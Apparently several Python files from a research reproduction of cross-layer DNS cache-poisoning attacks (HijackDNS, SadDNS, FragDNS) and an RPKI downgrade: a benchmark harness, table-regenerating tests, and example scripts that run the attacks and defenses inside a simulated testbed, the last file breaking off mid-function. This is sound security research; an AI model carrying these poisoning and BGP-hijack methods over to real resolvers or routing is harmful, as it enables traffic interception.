    statistics are gated bit-for-bit alongside the rates."""
    from repro.scenario import AttackScenario, Campaign
    from repro.workload import WorkloadSpec

    spec = WorkloadSpec(clients=8, qps=40.0, duration=10.0, warmup=2.0,
                        domains=20, victim_ttl=6, label="bench")
    scenario = AttackScenario(method="HijackDNS", label="HijackDNS@40qps",
                              workload=spec)
    started = time.perf_counter()
    result = Campaign(executor="serial").run(scenario, seeds=range(seeds))
    wall = time.perf_counter() - started
    merged = result.load_report()
    assert merged is not None and merged.answer_rate > 0.9
    queries = merged.offered + merged.warmup_queries
    return _result("workload", wall, queries, "queries/s",
                   checksum=workload_checksum(result), seeds=seeds)


def defense_grid_checksum(result) -> str:
    flat = [(cell.attack, cell.defense, cell.attack_succeeded,
             cell.expected_defeated)
            for cell in result.data["cells"] + result.data["pair_cells"]]
    return hashlib.sha256(repr(flat).encode()).hexdigest()


def bench_defense_grid(pairs: int) -> dict:
    """The Section 6 ablation on the defense-stack API: the 8x3
    single-defense grid plus ``pairs`` pairwise stacks, serial.  The
    checksum covers every cell verdict, so a perf win can never hide a
    flipped Section 6 expectation."""
    from repro.experiments import ablation

    started = time.perf_counter()
    result = ablation.run(seed=0, pairs=pairs)
    wall = time.perf_counter() - started
    assert result.data["agreement"] == result.data["total"], \
        "defense grid disagrees with Section 6 expectations"
    cells = result.data["total"]
    return _result("defense_grid", wall, cells, "cells/s",
                   checksum=defense_grid_checksum(result), pairs=pairs)


def store_grid_checksum(result) -> str:
    flat = [(run.label, run.defense, run.seed, run.success,
             run.packets_sent, run.queries_triggered, run.duration)
            for run in result.runs]
    return hashlib.sha256(repr(flat).encode()).hexdigest()


def bench_store_resume(seeds: int) -> dict:
    """Cold vs store-resumed defended grid: the cold pass computes and
    records every (scenario x stack x seed) cell into a fresh run
    store; the resumed pass reconstructs the same grid purely from
    stored cells.  The checksum covers both passes (asserted equal),
    so resume can never return different statistics than computing;
    the headline rate is the resumed pass — how fast a killed sweep
    comes back."""
    import os
    import tempfile

    from repro.scenario import Campaign, sweep_scenarios

    scenarios = sweep_scenarios()
    stacks = ("dnssec", "rpki-rov")
    with tempfile.TemporaryDirectory() as tmp:
        db = os.path.join(tmp, "bench_store.db")
        started = time.perf_counter()
        cold = Campaign(executor="serial").run_defended(
            scenarios, stacks=stacks, seeds=range(seeds), store=db)
        cold_wall = time.perf_counter() - started
        started = time.perf_counter()
        warm = Campaign(executor="serial").run_defended(
            scenarios, stacks=stacks, seeds=range(seeds), store=db)
        wall = time.perf_counter() - started
    checksum = store_grid_checksum(warm)
    assert checksum == store_grid_checksum(cold), \
        "store-resumed grid diverged from the computed grid"
    assert any("cells loaded" in note for note in warm.notes), \
        "resumed pass did not load from the store"
    return _result("store_resume", wall, len(warm.runs), "cells/s",
                   checksum=checksum, seeds=seeds,
                   cold_wall_s=round(cold_wall, 4),
                   speedup=round(cold_wall / wall, 1) if wall > 0
                   else 0.0)


def bench_faults(seeds: int) -> dict:
    """The degraded-path sweep: three methodology scenarios on a lossy
    high-latency resolver-NS link, serial.  Before timing, asserts the
    fault plane's core contract — a scenario carrying an *empty*
    FaultPlan produces a bit-identical run to the plain scenario — and
    the checksum gates the degraded statistics themselves."""
    from dataclasses import replace

    from repro.faults import FaultPlan
    from repro.scenario import AttackScenario, Campaign, sweep_scenarios
    from repro.testbed import RESOLVER_IP, TARGET_NS_IP

    base = AttackScenario(method="HijackDNS")
    clean = base.run(seed=0)
    noop = replace(base, faults=FaultPlan(label="noop")).run(seed=0)
    assert clean.result == noop.result, \
        "a no-op FaultPlan changed a clean run's statistics"

    plan = FaultPlan.link(RESOLVER_IP, TARGET_NS_IP,
                          loss=0.02, extra_latency=0.04)
    scenarios = [replace(scenario, faults=plan,
                         label=f"{scenario.method}@degraded")
                 for scenario in sweep_scenarios()]
    started = time.perf_counter()
    result = Campaign(executor="serial").run(scenarios,
                                             seeds=range(seeds))
    wall = time.perf_counter() - started
    assert all(not run.failed for run in result.runs)
    return _result("faults_degraded", wall, len(result.runs), "runs/s",
                   checksum=campaign_checksum(result), seeds=seeds)


def bench_obs_overhead(seeds: int, entities: int) -> dict:
    """The observability plane's zero-cost contract, measured.

    Runs the campaign sweep and the open-resolver atlas scan twice —
    obs disabled, then obs enabled — and asserts both checksums are
    bit-identical across the modes (instrumentation may never change
    statistics).  The gated ``rate`` is the disabled pass, so the CI
    baseline check catches a disabled-path slowdown like any other
    perf regression; ``overhead_pct`` records what enabling the full
    plane costs on top, and ``metrics_series``/``spans`` summarise
    what one instrumented pass actually emits.
    """
    from repro import obs
    from repro.atlas import find_dataset, scan_dataset
    from repro.scenario import Campaign, sweep_scenarios

    spec = find_dataset("open")

    def one_pass() -> tuple[float, str, str]:
        started = time.perf_counter()
        result = Campaign(executor="serial").run(sweep_scenarios(),
                                                 seeds=range(seeds))
        report = scan_dataset(spec, seed=0, entities=entities, shards=8,
                              executor="serial")
        wall = time.perf_counter() - started
        return wall, campaign_checksum(result), aggregate_checksum(report)

    obs.disable()
    obs.reset()
    off_wall, off_campaign, off_atlas = one_pass()
    obs.enable()
    try:
        on_wall, on_campaign, on_atlas = one_pass()
        registry = obs.OBS.registry
        series = len(registry.metrics())
        cells = sum(metric.value for metric in registry.metrics()
                    if metric.name == "campaign.cells_total")
        spans = len(obs.OBS.spans.spans())
    finally:
        obs.disable()
        obs.reset()
    assert (off_campaign, off_atlas) == (on_campaign, on_atlas), \
        "enabling the obs plane changed campaign/atlas statistics"
    overhead = (on_wall - off_wall) / off_wall if off_wall > 0 else 0.0
    n = seeds * 3 + entities
    return _result("obs_overhead", off_wall, n, "ops/s",
                   checksum=hashlib.sha256(
                       f"{off_campaign}:{off_atlas}".encode())
                   .hexdigest(),
                   seeds=seeds, entities=entities,
                   enabled_wall_s=round(on_wall, 4),
                   overhead_pct=round(100.0 * overhead, 2),
                   metrics_series=series, cells_observed=int(cells),
                   spans=spans)


def aggregate_checksum(report) -> str:
    payload = json.dumps(report.aggregate.to_json(), sort_keys=True)
    return hashlib.sha256(payload.encode()).hexdigest()


def bench_atlas(entities: int, dataset: str) -> dict:
    """The sharded population scan (serial, vectorised kernel when
    numpy is present), aggregate checksummed."""
    from repro.atlas import find_dataset, scan_dataset

    spec = find_dataset(dataset)
    started = time.perf_counter()
    report = scan_dataset(spec, seed=0, entities=entities, shards=8,
                          executor="serial")
    wall = time.perf_counter() - started
    return _result(f"atlas_{dataset}", wall, report.entities, "entities/s",
                   checksum=aggregate_checksum(report),
                   shards=report.shard_count)


def bench_parallel(entities: int) -> dict:
    """The parallel execution plane: serial vs N-worker scans of the
    open-resolver atlas, asserted bit-identical.  The gated ``rate`` is
    the serial vectorised rate — comparable across hosts with any core
    count — while the worker-pool numbers (``pooled_rate``,
    ``speedup``, ``efficiency``) are recorded alongside so the scaling
    behaviour is visible per machine.  A checksum mismatch between the
    serial and pooled scans fails the bench outright, which is the
    bit-identity gate CI runs."""
    from repro.atlas import find_dataset, scan_dataset
    from repro.parallel import resolve_workers, vector_available

    spec = find_dataset("open")
    workers = resolve_workers("auto")
    started = time.perf_counter()
    serial = scan_dataset(spec, seed=0, entities=entities, shards=8,
                          executor="serial")
    serial_wall = time.perf_counter() - started
    started = time.perf_counter()
    pooled = scan_dataset(spec, seed=0, entities=entities, shards=8,
                          workers=workers, executor="process")
    pooled_wall = time.perf_counter() - started
    checksum = aggregate_checksum(serial)
    assert aggregate_checksum(pooled) == checksum, \
        "N-worker scan diverged from the serial reference"
    speedup = serial_wall / pooled_wall if pooled_wall > 0 else 0.0
    return _result("parallel", serial_wall, entities, "entities/s",
                   checksum=checksum, workers=workers,
                   vector=vector_available(),
                   pooled_wall_s=round(pooled_wall, 4),
                   pooled_rate=round(entities / pooled_wall, 1)
                   if pooled_wall > 0 else 0.0,
                   speedup=round(speedup, 2),
                   efficiency=round(speedup / workers, 2)
                   if workers else 0.0)


# -- harness ------------------------------------------------------------------

def run_all(sizes: dict, mode: str, repeats: int) -> dict:
    """Run every bench ``repeats`` times; keep each bench's best run.

    Best-of-N is the standard way to measure a deterministic workload
    on a noisy machine: the minimum wall time is the closest observation
    of the code's actual cost, and the outputs (checksums) are identical
    across repetitions by construction.
    """
    thunks = [
        lambda: bench_scheduler(sizes["scheduler_events"]),
        lambda: bench_transmit(sizes["transmit_packets"]),
        lambda: bench_dns_wire(sizes["dns_wire_ops"]),
        lambda: bench_campaign(sizes["campaign_seeds"]),
        lambda: bench_killchain(sizes["killchain_seeds"]),
        lambda: bench_workload(sizes["workload_seeds"]),
        lambda: bench_atlas(sizes["atlas_entities"], "open"),
        lambda: bench_atlas(sizes["atlas_entities"], "alexa"),
        lambda: bench_parallel(sizes["parallel_entities"]),
        lambda: bench_defense_grid(sizes["defense_pairs"]),
        lambda: bench_store_resume(sizes["store_seeds"]),
        lambda: bench_faults(sizes["faults_seeds"]),
        lambda: bench_obs_overhead(sizes["campaign_seeds"],
                                   sizes["atlas_entities"]),
    ]
    benches = {}
    for thunk in thunks:
        best = None
        for _ in range(max(1, repeats)):
            record = thunk()
            if best is not None and best.get("checksum") is not None \
                    and best["checksum"] != record.get("checksum"):
                raise AssertionError(
                    f"{record['name']}: nondeterministic output across"
                    " repetitions")
            if best is None or record["wall_s"] < best["wall_s"]:
                record["repeats"] = repeats
                best = record
        name = best.pop("name")
        benches[name] = best
        sys.stderr.write(
            f"  {name:>16}: {best['rate']:>12,.0f} {best['unit']:<11} "
            f"({best['wall_s']:.3f}s best of {repeats})\n")
    return {
        "schema": "bench-core/1",
        "generated_by": "benchmarks/run_all.py",
        "mode": mode,
        "python": platform.python_version(),
        "benches": benches,
    }


def baseline_benches(baseline: dict, mode: str) -> dict:
    """The baseline's bench map for ``mode``.

    ``BENCH_core.json`` carries one record per mode (``runs``), because
    rates at quick sizes amortise fixed costs differently from full
    sizes — only same-mode comparisons are meaningful.  Single-record
    files compare only when their mode matches.
    """
    runs = baseline.get("runs")
    if runs is not None:
        return runs.get(mode, {}).get("benches", {})
    if baseline.get("mode") == mode:
        return baseline.get("benches", {})
    return {}


def check_against(current: dict, baseline: dict,
                  threshold: float) -> list[str]:
    """Rate-regression and bit-identity failures vs a baseline record."""
    failures = []
    reference = baseline_benches(baseline, current["mode"])
    if not reference:
        return [f"baseline has no {current['mode']!r}-mode record to"
                " compare against"]
    for name, base in reference.items():
        record = current["benches"].get(name)
        if record is None:
            failures.append(f"{name}: missing from current run")
            continue
        base_rate = base.get("rate", 0.0)
        rate = record.get("rate", 0.0)
        if base_rate > 0 and rate < base_rate * (1.0 - threshold):
            failures.append(
                f"{name}: rate regressed {base_rate:,.0f} -> {rate:,.0f} "
                f"{record.get('unit', '')} "
                f"({100 * (1 - rate / base_rate):.1f}% > "
                f"{100 * threshold:.0f}% allowed)")
        # Checksums gate bit-identity, but only at matching sizes.
        if base.get("checksum") and record.get("checksum") \
                and base.get("n") == record.get("n") \
                and base["checksum"] != record["checksum"]:
            failures.append(
                f"{name}: output checksum changed at n={base['n']} — "
                "statistics are no longer bit-identical")
    return failures


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--quick", action="store_true",
                        help="CI-sized benches (smaller n, same rates)")
    parser.add_argument("--json", default="BENCH_core.json",
                        help="output path (default: BENCH_core.json)")
    parser.add_argument("--check", metavar="BASELINE",
                        help="compare against a committed BENCH_core.json;"
                             " exit 1 on regression")
    parser.add_argument("--threshold", type=float,
                        default=REGRESSION_THRESHOLD,
                        help="allowed fractional rate regression"
                             " (default 0.25)")
    parser.add_argument("--repeats", type=int, default=3,
                        help="repetitions per bench; best run is kept"
                             " (default 3)")
    args = parser.parse_args(argv)

    mode = "quick" if args.quick else "full"
    sizes = QUICK_SIZES if args.quick else FULL_SIZES
    sys.stderr.write(f"running kernel benches ({mode})...\n")
    record = run_all(sizes, mode, args.repeats)

    # The on-disk record keeps one entry per mode, merged in place, so
    # the committed baseline can gate both full and quick reruns.
    merged: dict = {
        "schema": "bench-core/1",
        "generated_by": record["generated_by"],
        "python": record["python"],
        "runs": {},
    }
    try:
        with open(args.json, encoding="utf-8") as handle:
            existing = json.load(handle)
        if "runs" in existing:
            merged["runs"].update(existing["runs"])
    except (OSError, ValueError):
        pass
    merged["runs"][mode] = {"mode": mode, "benches": record["benches"]}
    with open(args.json, "w", encoding="utf-8") as handle:
        json.dump(merged, handle, indent=2, sort_keys=True)
        handle.write("\n")
    sys.stderr.write(f"wrote {args.json} ({mode} record)\n")

    if args.check:
        with open(args.check, encoding="utf-8") as handle:
            baseline = json.load(handle)
        failures = check_against(record, baseline, args.threshold)
        if failures:
            sys.stderr.write("PERF CHECK FAILED\n")
            for failure in failures:
                sys.stderr.write(f"  {failure}\n")
            return 1
        sys.stderr.write(
            f"perf check ok vs {args.check} "
            f"(threshold {100 * args.threshold:.0f}%)\n")
    return 0


if __name__ == "__main__":
    sys.exit(main())
