"""Bench: regenerate Table 6 (methodology comparison).

This is the heavyweight bench: it runs real end-to-end attack trials
for all three methodologies, declared as scenarios and swept by the
campaign runner (pass ``workers`` to ``table6.run`` to fan them out
over processes).  Budgets are chosen so the whole bench stays under a
couple of minutes while the statistics remain in the paper's regime.
"""

from _helpers import publish

from repro.experiments import table6


def test_table6_method_comparison(benchmark):
    result = benchmark.pedantic(
        lambda: table6.run(seed=0, saddns_runs=2, frag_runs=6,
                           frag_random_runs=2),
        rounds=1, iterations=1,
    )
    publish(benchmark, result)
    stats = result.data["stats"]
    # Shape: HijackDNS is deterministic — 1 query, 2 packets, 100%.
    assert stats.hijack.hitrate == 1.0
    assert stats.hijack.mean_queries == 1
    assert stats.hijack.mean_packets == 2
    # SadDNS needs hundreds of queries and about a million packets.
    assert stats.saddns.successes == stats.saddns.runs
    assert 50 <= stats.saddns.mean_queries <= 2500
    assert stats.saddns.mean_packets > 100_000
    # FragDNS with a global IP-ID is the cheap, stealthy variant:
    # a handful of queries and a few hundred packets.
    assert stats.frag_global.successes == stats.frag_global.runs
    assert stats.frag_global.mean_queries < 40
    assert stats.frag_global.mean_packets < 3000
    # Ordering of costs matches the paper's comparison exactly.
    assert stats.hijack.mean_packets < stats.frag_global.mean_packets \
        < stats.saddns.mean_packets
    # Random IP-ID pushes FragDNS into the ~0.1% hitrate regime: far
    # more attempts than the global-counter variant.
    assert stats.frag_random.mean_queries > 5 * stats.frag_global.mean_queries
