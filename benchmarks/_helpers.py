"""Shared helpers for the benchmark harness.

Every bench regenerates one of the paper's tables or figures via the
experiment registry, prints the rendered output (visible with ``-s`` or
in captured logs), attaches the structured rows to the pytest-benchmark
record via ``extra_info``, and asserts the *shape* of the paper's
result — orderings, dominant factors, crossovers — rather than absolute
numbers.
"""

from __future__ import annotations

import sys


def publish(benchmark, result) -> None:
    """Print an experiment's rendering and attach rows to the record."""
    sys.stdout.write("\n" + result.rendered + "\n")
    for note in result.notes:
        sys.stdout.write(f"note: {note}\n")
    benchmark.extra_info["experiment"] = result.experiment_id
    benchmark.extra_info["title"] = result.title
    benchmark.extra_info["rows"] = [
        [str(cell) for cell in row] for row in result.rows
    ]
    benchmark.extra_info["notes"] = list(result.notes)


def pct(text: str) -> float:
    """Parse a rendered percentage cell back to a float."""
    return float(str(text).rstrip("%").replace(",", ""))
