"""Shared helpers for the benchmark harness.

Every bench regenerates one of the paper's tables or figures via the
experiment registry, prints the rendered output (visible with ``-s`` or
in captured logs), attaches the structured rows to the pytest-benchmark
record via ``extra_info``, and asserts the *shape* of the paper's
result — orderings, dominant factors, crossovers — rather than absolute
numbers.
"""

from __future__ import annotations

import json
import os
import sys


def publish(benchmark, result) -> None:
    """Print an experiment's rendering and attach rows to the record."""
    sys.stdout.write("\n" + result.rendered + "\n")
    for note in result.notes:
        sys.stdout.write(f"note: {note}\n")
    benchmark.extra_info["experiment"] = result.experiment_id
    benchmark.extra_info["title"] = result.title
    benchmark.extra_info["rows"] = [
        [str(cell) for cell in row] for row in result.rows
    ]
    benchmark.extra_info["notes"] = list(result.notes)


def pct(text: str) -> float:
    """Parse a rendered percentage cell back to a float."""
    return float(str(text).rstrip("%").replace(",", ""))


def write_atlas_bench(reports, wall_clock: float,
                      path: str | None = None) -> str:
    """Write the machine-readable atlas scan record (``BENCH_atlas.json``).

    ``reports`` are :class:`repro.atlas.pipeline.AtlasScanReport`
    objects; the payload records entities/sec, shard counts and wall
    time per dataset (the same shape ``python -m repro.atlas scan
    --json`` emits, so CI can compare the bench and CLI records).  The
    target path defaults to ``$BENCH_ATLAS_JSON`` or
    ``BENCH_atlas.json`` in the working directory.
    """
    from repro.atlas.cli import bench_payload

    path = path or os.environ.get("BENCH_ATLAS_JSON", "BENCH_atlas.json")
    with open(path, "w", encoding="utf-8") as handle:
        json.dump(bench_payload(reports, wall_clock), handle,
                  indent=2, sort_keys=True)
    return path
