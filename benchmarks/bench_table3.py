"""Bench: regenerate Table 3 (vulnerable resolvers per dataset)."""

from _helpers import pct, publish

from repro.experiments import table3


def test_table3_vulnerable_resolvers(benchmark):
    result = benchmark.pedantic(
        lambda: table3.run(seed=0, scale=0.01), rounds=1, iterations=1)
    publish(benchmark, result)
    rows = {row[0]: row for row in result.rows}
    open_row = rows["Open resolvers"]
    adnet_row = rows["Ad-net study"]
    ca_row = rows["Popular CAs"]
    # Shape assertions mirroring the paper's key findings:
    # hijackability is the dominant vulnerability everywhere ...
    assert pct(open_row[2]) > pct(open_row[3])
    assert pct(open_row[2]) > pct(open_row[4])
    # ... SadDNS is the rarest (patched) methodology ...
    assert pct(open_row[3]) < 25
    # ... ad-net resolvers are far more fragmentation-prone than open
    # resolvers (91% vs 31%) ...
    assert pct(adnet_row[4]) > 2 * pct(open_row[4])
    # ... and CA resolvers reject fragmented responses entirely.
    assert pct(ca_row[4]) == 0
    # Every dataset lands within sampling error of the paper's numbers.
    for spec_key, (hijack, saddns, frag) in result.paper_reference.items():
        summary = result.data["summaries"][spec_key]
        if summary.size >= 200:
            assert abs(summary.pct("hijack") - hijack) < 12
            assert abs(summary.pct("saddns") - saddns) < 8
            assert abs(summary.pct("frag") - frag) < 12
