"""Bench: regenerate Table 5 (ANY caching across implementations)."""

from _helpers import publish

from repro.experiments import table5


def test_table5_any_caching(benchmark):
    result = benchmark.pedantic(table5.run, rounds=1, iterations=1)
    publish(benchmark, result)
    # Shape: 3 of 5 implementations cache ANY contents; all five
    # verdicts match the paper exactly.
    assert result.data["matches"] == result.data["total"] == 5
    vulnerable = [row[0] for row in result.rows if row[1] == "yes"]
    assert len(vulnerable) == 3
    assert any("BIND" in name for name in vulnerable)
    immune = [row[0] for row in result.rows if row[1] == "no"]
    assert any("Unbound" in name for name in immune)
    assert any("dnsmasq" in name for name in immune)
