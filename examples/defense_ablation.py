#!/usr/bin/env python3
"""Defense stacks in three lines: sweep every method against every
single Section 6 defense, then the best pairwise stacks.

The core of the sweep really is three lines::

    campaign = Campaign(executor="serial")
    result = campaign.run_defended(sweep_scenarios(), stacks=stacks,
                                   seeds=range(4))
    print(result.describe())

Everything else here just chooses the stacks and reads the residuals
back out.  The output demonstrates the paper's Section 6 argument
quantitatively: per-layer defenses leave the cross-layer chain alive
(ROV stops the hijack, FragDNS sails on), while complementary stacks —
and only they — shrink the whole grid.

Run:  python examples/defense_ablation.py
"""

from repro.defenses import DefenseStack, available_defenses, classify_pair, \
    pairwise_stacks
from repro.scenario import Campaign, sweep_scenarios

SEEDS = range(4)


def main() -> None:
    # Every methodology against every single Section 6 defense (plus
    # the undefended baseline) — the 3-line sweep.
    stacks = [DefenseStack.of(key) for key in available_defenses()]
    campaign = Campaign(executor="serial")
    result = campaign.run_defended(sweep_scenarios(), stacks=stacks,
                                   seeds=SEEDS)
    print(result.describe())

    # Which single defense leaves the least residual attack surface?
    matrix = result.defense_matrix()
    methods = sorted({method for _stack, method in matrix})
    print("\nresidual methods per single defense:")
    for stack in [DefenseStack()] + stacks:
        residual = [m for m in methods
                    if matrix[(stack.key, m)].successes > 0]
        print(f"  {stack.key:>22}: "
              f"{', '.join(residual) if residual else 'all blocked'}")

    # The best pairwise stacks: complementary pairs cover two
    # methodologies with deployable (non-DNSSEC) defenses.
    best = [stack for stack in pairwise_stacks()
            if classify_pair(stack) == "complementary"
            and all(d.key != "dnssec" for d in stack.defenses)][:3]
    print(f"\ncomplementary pairs under test: "
          f"{', '.join(s.key for s in best)}")
    paired = campaign.run_defended(sweep_scenarios(), stacks=best,
                                   seeds=SEEDS, include_undefended=False)
    print(paired.describe())


if __name__ == "__main__":
    main()
