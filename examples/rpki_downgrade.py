#!/usr/bin/env python3
"""The paper's headline cross-layer attack: defeating RPKI through DNS.

Scenario (paper §1 and Table 1, "RPKI / Repository sync."):

1. A victim AS protects its prefix with a ROA; every other AS enforces
   route origin validation (ROV).  A same/sub-prefix hijack therefore
   validates INVALID and is filtered — RPKI works.
2. The relying party ("RPKI cache") locates its repository by DNS name.
   The attacker poisons that name at the relying party's resolver —
   here via the kill-chain API, whose "rpki" application stage stands
   up the repository, the relying party and the attack in one scenario.
3. The next synchronisation fails, the validated ROA set is empty, and
   the hijack announcement now validates UNKNOWN — which ROV does *not*
   filter, because most of the Internet is unknown.
4. The same BGP hijack that step 1 blocked now succeeds, even though
   every network still "enforces" ROV.

Run:  python examples/rpki_downgrade.py
"""

from repro.apps.pki import RpkiDriver
from repro.bgp import BgpSimulation, Prefix, generate_topology, \
    sameprefix_hijack
from repro.core.rng import DeterministicRNG
from repro.scenario import AppSpec, AttackScenario, TriggerSpec

VICTIM_ASN = RpkiDriver.VICTIM_ASN
ATTACKER_ASN = RpkiDriver.ATTACKER_ASN
VICTIM_PREFIX = Prefix.parse(RpkiDriver.VICTIM_PREFIX)


def hijack_with(relying_party) -> int:
    """Run the same-prefix BGP hijack under the given ROV state."""
    topology = generate_topology(DeterministicRNG("rpki-topology"))
    simulation = BgpSimulation(topology)
    simulation.announce(VICTIM_PREFIX, VICTIM_ASN)
    for asn in topology.asns:
        simulation.set_rov_filter(asn, relying_party.as_rov_filter())
    sources = [asn for asn in topology.asns[:40]
               if asn not in (VICTIM_ASN, ATTACKER_ASN)]
    outcome = sameprefix_hijack(simulation, ATTACKER_ASN, VICTIM_ASN,
                                VICTIM_PREFIX, sources)
    print(f"  same-prefix hijack captured "
          f"{len(outcome.captured_sources)}/{len(sources)} sources "
          f"({outcome.capture_rate:.0%})")
    return len(outcome.captured_sources)


def relying_party_world(seed: str, attack: bool):
    """One kill-chain world; the attack phase runs only when asked."""
    scenario = AttackScenario(
        method="hijack",
        app_spec=AppSpec(app="rpki"),
        trigger=TriggerSpec(kind="app"),
        capture_possible=attack,   # attack=False models no DNS attack
    )
    built = scenario.build(seed=seed)
    return built, built.execute()


def main() -> None:
    # Phase 1: RPKI healthy — the relying party syncs, ROV filters.
    print("phase 1: no DNS attack, RPKI enforced")
    built, chain = relying_party_world("rpki-clean", attack=False)
    relying_party = built.app_ctx["relying_party"]
    assert not chain.impact_realized
    print(f"  ROAs validated: {len(relying_party.validated)}")
    verdict = relying_party.validate(VICTIM_PREFIX, ATTACKER_ASN)
    print(f"  attacker announcement validates: {verdict}")
    assert hijack_with(relying_party) == 0

    # Phase 2: the cross-layer kill chain poisons the repository name.
    print("\nphase 2: HijackDNS poisons the repository name")
    built, chain = relying_party_world("rpki-attack", attack=True)
    relying_party = built.app_ctx["relying_party"]
    print(f"  {chain.describe()}")
    assert chain.success and chain.impact_realized
    sync = chain.app_result.outcomes[0]
    print(f"  synchronisation: {sync.detail['error']}")
    verdict = sync.detail["hijack_verdict"]
    print(f"  attacker announcement now validates: {verdict}")

    # Phase 3: the very same BGP hijack now succeeds.
    print("\nphase 3: the same BGP hijack, ROV still 'enforced'")
    assert hijack_with(relying_party) > 0
    print("\nRPKI was never broken — it was simply never consulted.")


if __name__ == "__main__":
    main()
