#!/usr/bin/env python3
"""The paper's headline cross-layer attack: defeating RPKI through DNS.

Scenario (paper §1 and Table 1, "RPKI / Repository sync."):

1. A victim AS protects its prefix with a ROA; every other AS enforces
   route origin validation (ROV).  A same/sub-prefix hijack therefore
   validates INVALID and is filtered — RPKI works.
2. The relying party ("RPKI cache") locates its repository by DNS name.
   The attacker poisons that name at the relying party's resolver.
3. The next synchronisation fails, the validated ROA set is empty, and
   the hijack announcement now validates UNKNOWN — which ROV does *not*
   filter, because most of the Internet is unknown.
4. The same BGP hijack that step 1 blocked now succeeds, even though
   every network still "enforces" ROV.

Run:  python examples/rpki_downgrade.py
"""

from repro.attacks.base import plant_poison
from repro.bgp import (
    BgpSimulation,
    Prefix,
    RelyingParty,
    Roa,
    RpkiRepository,
    generate_topology,
    sameprefix_hijack,
)
from repro.core.rng import DeterministicRNG
from repro.dns.records import rr_a
from repro.dns.stub import StubResolver
from repro.testbed import Testbed

VICTIM_ASN = 500
ATTACKER_ASN = 666
VICTIM_PREFIX = Prefix.parse("30.0.0.0/22")
REPOSITORY_NAME = "rpki-repo.vict.im"


def main() -> None:
    # --- DNS side: repository, resolver, relying party ------------------
    bed = Testbed(seed="rpki-downgrade")
    repo_host = bed.make_host("repository", "123.9.0.10")
    repository = RpkiRepository(repo_host, REPOSITORY_NAME)
    repository.publish(Roa(prefix=VICTIM_PREFIX, max_length=23,
                           origin=VICTIM_ASN))
    bed.add_domain("vict.im", "123.0.0.53",
                   records=[rr_a(REPOSITORY_NAME, "123.9.0.10")])
    resolver = bed.make_resolver("30.0.0.1")
    rp_host = bed.make_host("relying-party", "30.0.0.8")
    relying_party = RelyingParty(rp_host, StubResolver(rp_host, "30.0.0.1"),
                                 REPOSITORY_NAME)

    # --- BGP side: topology with universal ROV --------------------------
    topology = generate_topology(DeterministicRNG("rpki-topology"))
    simulation = BgpSimulation(topology)
    simulation.announce(VICTIM_PREFIX, VICTIM_ASN)
    for asn in topology.asns:
        simulation.set_rov_filter(asn, relying_party.as_rov_filter())
    sources = [asn for asn in topology.asns[:40]
               if asn not in (VICTIM_ASN, ATTACKER_ASN)]

    # Phase 1: RPKI healthy — the hijack is filtered.
    assert relying_party.synchronise()
    print("ROAs validated:", len(relying_party.validated))
    verdict = relying_party.validate(VICTIM_PREFIX, ATTACKER_ASN)
    print(f"attacker announcement validates: {verdict}")
    outcome = sameprefix_hijack(simulation, ATTACKER_ASN, VICTIM_ASN,
                                VICTIM_PREFIX, sources)
    print(f"hijack with ROV enforced: captured "
          f"{len(outcome.captured_sources)}/{len(sources)} sources")
    assert not outcome.captured_sources

    # Phase 2: poison the repository's DNS name, relying party resyncs.
    plant_poison(resolver, [rr_a(REPOSITORY_NAME, "6.6.6.6", ttl=86400)])
    assert not relying_party.synchronise()
    print("\nafter DNS poisoning:", relying_party.log.last_error)
    verdict = relying_party.validate(VICTIM_PREFIX, ATTACKER_ASN)
    print(f"attacker announcement now validates: {verdict}")

    # Phase 3: the very same hijack now succeeds.
    outcome = sameprefix_hijack(simulation, ATTACKER_ASN, VICTIM_ASN,
                                VICTIM_PREFIX, sources)
    print(f"hijack with ROV downgraded: captured "
          f"{len(outcome.captured_sources)}/{len(sources)} sources "
          f"({outcome.capture_rate:.0%})")
    assert outcome.captured_sources
    print("\nRPKI was never broken — it was simply never consulted.")


if __name__ == "__main__":
    main()
