#!/usr/bin/env python3
"""Quickstart: poison a resolver's cache with one declarative scenario.

An :class:`AttackScenario` is the whole attack as data: methodology,
target, trigger and testbed overrides.  ``scenario.run(seed)`` builds
the paper's standard testbed (Figures 1/2) — the victim network
30.0.0.0/24 with its resolver, the target domain vict.im on its own
nameserver, an off-path attacker at 6.6.6.6 — and executes the attack
end to end.  Swapping ``method="hijack"`` for ``"saddns"`` or ``"frag"``
swaps the whole methodology; a ``Campaign`` sweeps any scenario across
seeds in parallel.

Run:  python examples/quickstart.py
"""

from repro.dns.stub import StubResolver
from repro.scenario import AttackScenario, Campaign
from repro.testbed import RESOLVER_IP, TARGET_DOMAIN


def main() -> None:
    # The attack, declared: HijackDNS against vict.im on the standard
    # testbed, triggered by a spoofed internal client (the default).
    scenario = AttackScenario(method="hijack")

    # Materialise one world to watch the attack happen inside it.
    built = scenario.build(seed="quickstart")

    # A legitimate client resolves vict.im before the attack.
    client = StubResolver(built.world["service"], RESOLVER_IP)
    print("before attack:", TARGET_DOMAIN, "->",
          client.lookup(TARGET_DOMAIN).addresses())
    built.resolver.cache.flush()  # let the TTL "expire" for the demo

    # The off-path attacker hijacks the nameserver's prefix, triggers a
    # query, and answers it first (it saw every challenge value).
    run = built.execute()
    print(run.result.describe())

    # Every later client of the poisoned resolver is now redirected.
    answer = client.lookup(TARGET_DOMAIN)
    print("after attack: ", TARGET_DOMAIN, "->", answer.addresses())
    assert answer.addresses() == [built.attacker.address]
    print("cache entry poisoned:",
          built.resolver.cache.entry(TARGET_DOMAIN, 1).poisoned)

    # Statistics come from sweeping seeds, not rerunning by hand: each
    # seed is an independent deterministic world.
    sweep = Campaign(executor="serial").run(scenario, seeds=range(8))
    print(f"\n8-seed sweep: {sweep.success_rate:.0%} success,"
          f" {sweep.wall_clock:.2f}s wall")


if __name__ == "__main__":
    main()
