#!/usr/bin/env python3
"""Quickstart: poison a resolver's cache with HijackDNS in ~30 lines.

Builds the paper's standard testbed (Figures 1/2): the victim network
30.0.0.0/24 with its resolver, the target domain vict.im on its own
nameserver, and an off-path attacker at 6.6.6.6.  The attacker announces
a sub-prefix covering the nameserver, intercepts the resolver's query,
answers it with a forged record, and from then on every client of that
resolver is redirected to the attacker.

Run:  python examples/quickstart.py
"""

from repro.attacks import (
    HijackDnsAttack,
    OffPathAttacker,
    SpoofedClientTrigger,
)
from repro.dns.stub import StubResolver
from repro.testbed import (
    RESOLVER_IP,
    SERVICE_IP,
    TARGET_DOMAIN,
    TARGET_NS_IP,
    standard_testbed,
)


def main() -> None:
